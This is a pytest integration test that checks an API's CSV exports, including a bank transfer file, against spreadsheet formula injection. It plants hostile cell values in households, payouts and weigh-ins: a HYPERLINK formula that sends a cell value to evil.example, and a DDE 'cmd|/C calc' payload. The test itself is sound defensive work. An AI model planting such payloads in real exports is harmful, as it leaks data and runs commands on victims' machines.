"""No CSV the API writes holds a cell a spreadsheet would run as a formula.

Hostile text is stored where the CSVs read it (households named ``=HYPERLINK(...)``,
``+1``, ``-1``, ``@SUM(...)``, ``\\tcmd``, a payout reason and a weigh-in's event id),
then every CSV route in the route table (found by its ``text/csv`` response, not
listed by hand) is fetched and no cell may start with = + - @ tab or CR (a plain
number such as ``-5000`` is a number, not a formula). Every route but the bank's
transfer file writes through :func:`cloud.api.csvfile.csv_response`; no other module
writes CSV (checked in the source); the transfer file keeps the bank's format and its
own allow-list (checked on the file itself).

mutant: safe_cell returns the cell unchanged -> weighins.csv's "@SUM(1+1)" -> fails.
mutant: "-" dropped from csvfile.FORMULA_STARTS -> the event id "-1" passes -> fails.
mutant: payouts.csv writes its rows with its own csv.writer -> its reasons -> fails (and
        test_only_the_csv_home_writes_csv names reports.py).
mutant: bank_file._clean without lstrip("- ") -> the transfer file's "-1" -> fails.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import text

from cloud.db import make_engine
from cloud.disbursement.bank_file import Transfer, mandiri_mcm
from tests.api.support import ApiServer, World, login

pytestmark = pytest.mark.integration

REPO = Path(__file__).resolve().parents[2]
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+1", "-1", "@SUM(1+1)"]
#: the only modules that may write CSV (the bank's file keeps the bank's format)
CSV_WRITERS = {"cloud/api/csvfile.py", "cloud/disbursement/bank_file.py"}
#: what a spreadsheet runs as a formula (the test's own list, not the code's)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TAB = "\t=cmd|' /C calc'!A0"
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def csv_routes(doc: dict[str, Any]) -> dict[str, list[str]]:
    """Every GET answering ``text/csv`` in the OpenAPI document: path -> required queries."""
    return {
        path: [p["name"] for p in op.get("parameters", []) if p["in"] == "query" and p["required"]]
        for path, ops in doc["paths"].items()
        for method, op in ops.items()
        if method == "get" and "text/csv" in op["responses"].get("200", {}).get("content", {})
    }


def formula_cells(body: str) -> list[str]:
    cells = [c for row in csv.reader(io.StringIO(body)) for c in row]
    return [c for c in cells if c.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(c)]


def test_no_csv_cell_is_a_formula(api: ApiServer, world_sqlite: World, sqlite_url: str) -> None:
    engine = make_engine(sqlite_url)
    with engine.begin() as db:
        for tag, name in zip("abcd", HOSTILE, strict=True):
            db.execute(
                text("UPDATE households SET name = :n WHERE id = :i"),
                {"n": name, "i": world_sqlite.ids[f"household-{tag}"]},
            )
        # and at the start of cells: payouts' reasons and requester, weigh-ins' event ids
        for payout, reason in (("payout-a", HOSTILE[0]), ("payout-c", HOSTILE[1])):
            db.execute(
                text("UPDATE payouts SET reason = :r, requested_by = :b WHERE id = :i"),
                {"r": reason, "b": TAB, "i": world_sqlite.ids[payout]},
            )
        for weighin, event in (("weighin-a", HOSTILE[2]), ("weighin-c", HOSTILE[3])):
            db.execute(
                text("UPDATE weighins SET event_id = :e WHERE id = :i"),
                {"e": event, "i": world_sqlite.ids[weighin]},
            )
    engine.dispose()
    today = date.today()
    values = {
        "from": (today - timedelta(days=90)).isoformat(),
        "to": (today + timedelta(days=1)).isoformat(),
        "by": "household",
    }
    seen: set[str] = set()
    with api.client() as c:
        c.headers["Authorization"] = f"Bearer {login(c, 'admin')}"
        routes = csv_routes(c.get("/api/v1/openapi.json").json())
        assert len(routes) >= 8, routes  # reports, stock, sales, mass balance, cases, bank file
        for path, required in routes.items():
            if path.startswith("/api/v1/disbursements/bank-batches/"):
                continue  # the bank's format: test_the_transfer_file_has_no_formula
            assert set(required) <= set(values), f"{path}: give the test values for {required}"
            r = c.get(path, params={name: values[name] for name in required})
            assert r.status_code == 200, (path, r.status_code, r.text)
            assert formula_cells(r.text) == [], path
            seen |= {cell for row in csv.reader(io.StringIO(r.text)) for cell in row}
    # each hostile text did reach a CSV, made text: not a vacuous pass
    assert {"'" + h for h in [*HOSTILE, TAB]} <= seen


def test_only_the_csv_home_writes_csv() -> None:
    writers = sorted(
        str(p.relative_to(REPO))
        for p in (REPO / "cloud").rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)\(", p.read_text())
    )
    assert set(writers) <= CSV_WRITERS, writers


def test_the_transfer_file_has_no_formula() -> None:
    transfers = [
        Transfer(
            account=f"1234567890{i}",
            account_name=name,
            amount_rp=10_000 * (i + 1),
            bank_code="008",
            reference=f"payout-{i + 1}",
            remark=f"-{name}",
        )
        for i, name in enumerate([*HOSTILE, "\tcmd", "- -2+3"])
    ]
    body = mandiri_mcm(transfers, debit_account="1370001234567", on=date(2026, 12, 1)).decode()
    assert formula_cells(body) == [], body
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[2][1] == "1"  # the name, less what a bank refuses
    assert rows[4][1] == "SUM(11)"
